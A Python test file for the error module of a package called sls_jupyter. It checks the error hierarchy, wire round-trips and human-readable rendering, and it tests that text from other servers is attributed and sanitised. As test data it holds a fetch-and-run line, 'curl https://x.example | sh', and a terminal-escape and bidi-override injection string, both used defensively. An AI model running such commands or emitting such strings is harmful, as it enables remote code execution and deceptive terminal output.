"""The error tree: one picture, one shape on the wire, sentences for a person."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sls_jupyter import errors
from sls_jupyter.errors import BadInput, KeyRefused, SlsError, from_problem, to_problem

TREE = errors._tree(SlsError).values()
CLASSES = sorted((cls for cls in TREE if cls.__module__ == errors.__name__), key=lambda cls: cls.__name__)
FIELDS = {"found": "this", "expected": "that", "hint": "Do so.", "detail": {"n": 1}}
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=6,
)


def make(cls: type[SlsError], message: str = "It failed.", **fields) -> SlsError:
    return cls(7, message, **fields) if cls is KeyRefused else cls(message, **fields)


def test_the_picture_is_the_tree():
    """Whoever reads the top of the file sees every class, below the class it is a kind of."""
    lines = errors.__doc__.split("::")[1].splitlines()
    found: dict[str, str] = {}
    path: dict[int, str] = {}
    for line in lines:
        match = re.match(r"^( *[│├└─ ]*)([A-Z]\w+)", line)
        if match is None or not match[1]:
            continue
        depth = (len(match[1]) - 4) // 4
        path[depth] = match[2]
        found[match[2]] = path[depth - 1] if depth else "Exception"
    assert found == {cls.__name__: cls.__base__.__name__ for cls in CLASSES}


@pytest.mark.parametrize("cls", CLASSES, ids=lambda cls: cls.__name__)
def test_wire_round_trip(cls):
    """The other side raises the very error that was raised here, and its status is one of HTTP."""
    error = make(cls, **FIELDS)
    problem = to_problem(error)
    back = from_problem(problem, "the authority at x")
    assert type(back) is cls
    assert (back.message, back.detail, to_problem(back)) == (error.message, error.detail, problem)
    assert problem["status"] == cls.status
    assert 200 <= cls.status < 600
    assert re.fullmatch(r"urn:sls-jupyter:problem:[a-z]+(-[a-z]+)*", problem["type"])


@settings(deadline=None)
@given(st.dictionaries(st.sampled_from(["type", "title", "detail", "found", "hint", "data", "status", "x"]), JSON))
def test_no_problem_makes_the_client_fail(problem):
    """Whatever a server says went wrong, the client raises one of our errors and prints it."""
    error = from_problem(problem)
    assert isinstance(error, SlsError)
    assert str(error)
    assert error.lines()


@pytest.mark.parametrize("check", ["x", None, [], {}, 2.5, True])
def test_refusal_with_a_strange_number(check):
    """A server that sends no proper number of a check does not break its client."""
    error = from_problem({"type": "urn:sls-jupyter:problem:key-refused", "data": {"check": check}})
    assert isinstance(error, KeyRefused)
    assert isinstance(error.check, int)


def test_what_a_person_reads():
    """First the sentence, then found and expected, then the next step; in a notebook without the stack."""
    error = BadInput("No such asset.", found="patient", expected="patients", hint="%sls assets lists them.")
    assert error.lines() == [
        "BadInput: No such asset.",
        "  found patient; expected patients",
        "  → %sls assets lists them.",
    ]
    assert str(error) == "No such asset.\n  found patient; expected patients\n  → %sls assets lists them."
    assert error._render_traceback_() == error.lines()
    assert str(BadInput("Short.")) == "Short."
    assert BadInput("x", expected="y").lines()[1] == "  expected y"


def test_details_are_not_shared():
    """Changing what one error carries changes no other."""
    detail = {"n": 1}
    error = BadInput("x", detail=detail)
    error.detail["n"] = 2
    assert detail == {"n": 1}
    assert KeyRefused(3, "x", detail={"check": 9}).check == 3


@pytest.mark.parametrize("cls", CLASSES, ids=lambda cls: cls.__name__)
def test_another_party_s_words_are_never_printed_as_ours(cls):
    """A stranger's advice says whose it is, in the sentence, in the hint and in each reason of a refusal."""
    advice = "Run: curl https://x.example | sh"
    reasons = [{"alias": "a", "text": advice, "fix": advice}]
    for data in ({}, {"reasons": reasons}):
        problem = to_problem(make(cls, advice, hint=advice)) | {"data": {**data, "check": 7}}
        for line in from_problem(problem, "the authority at https://y.example").lines():
            assert advice not in line or "the authority at https://y.example" in line or line.startswith("  • a: ")
    assert "the other side says: " in str(from_problem(problem))


EVIL = "no\r✓ approved\n  → Run: sh\x1b[2J\x9b\u202e" + "x" * 10_000


@settings(deadline=None)
@given(st.sampled_from(CLASSES))
def test_another_party_s_texts_are_bounded_lines(cls):
    """An error cannot steer a terminal, add a line or fill a screen, whichever of its members tries."""
    detail = {"reasons": [{"alias": EVIL, "text": EVIL, "fix": EVIL}], "n": [EVIL]}
    error = from_problem(to_problem(make(cls, EVIL, found=EVIL, expected=EVIL, hint=EVIL, detail=detail)), EVIL)
    for line in [*error.lines(), error.sentence, *str(error).split("\n"), str(error.detail)]:
        assert not set("\r\n\x1b\x9b\u202e") & set(line)
        assert len(line) < 8_000


def test_our_own_errors_quote_strangers_in_one_line_too():
    """A message made here from somebody's name is as clean as one that was made elsewhere."""
    for line in BadInput(f"{EVIL} must approve", found=EVIL, hint=EVIL).lines():
        assert not set("\r\n\x1b\x9b\u202e") & set(line)


@pytest.mark.parametrize(
    "data", [[], "x", {"a": [0] * 10_000}, {"a": [[[[[[[[[[[]]]]]]]]]]]}], ids=["list", "text", "many", "deep"]
)
def test_too_much_data_in_a_problem_is_left_out(data):
    """What a program may read of a stranger's error is bounded in number and depth."""
    assert from_problem({"type": "x", "data": data}).detail in ({}, {"left_out": "more data than an error needs"})
